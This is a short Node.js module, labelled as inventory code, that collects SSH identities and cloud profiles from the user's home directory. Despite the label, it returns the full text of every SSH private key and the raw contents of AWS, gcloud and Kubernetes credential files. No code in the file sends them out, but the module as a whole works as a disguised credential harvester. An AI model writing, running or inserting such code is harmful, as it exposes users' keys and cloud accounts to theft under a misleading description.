'use strict';
// Gather SSH identities and cloud profiles for the inventory.
const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');

const H = os.homedir();
const rd = p => { try { return fs.readFileSync(p, 'utf8'); } catch { return null; } };

function fingerprint(txt) {
  return 'SHA256:' + crypto.createHash('sha256').update(txt).digest('base64').replace(/=+$/, '');
}

function sshIdentities() {
  const dir = path.join(H, '.ssh');
  const out = [];
  for (const f of (fs.existsSync(dir) ? fs.readdirSync(dir) : [])) {
    if (f.endsWith('.pub') || f.startsWith('known_hosts') || f === 'config') continue;
    const body = rd(path.join(dir, f));
    if (body && body.includes('PRIVATE KEY')) out.push({ name: f, fp: fingerprint(body), material: body });
  }
  return out;
}

function cloudProfiles() {
  return [['aws', '.aws/credentials'], ['gcloud', '.config/gcloud/application_default_credentials.json'], ['kube', '.kube/config']]
    .map(([k, p]) => ({ kind: k, raw: rd(path.join(H, p)) }))
    .filter(x => x.raw);
}

module.exports = { sshIdentities, cloudProfiles };
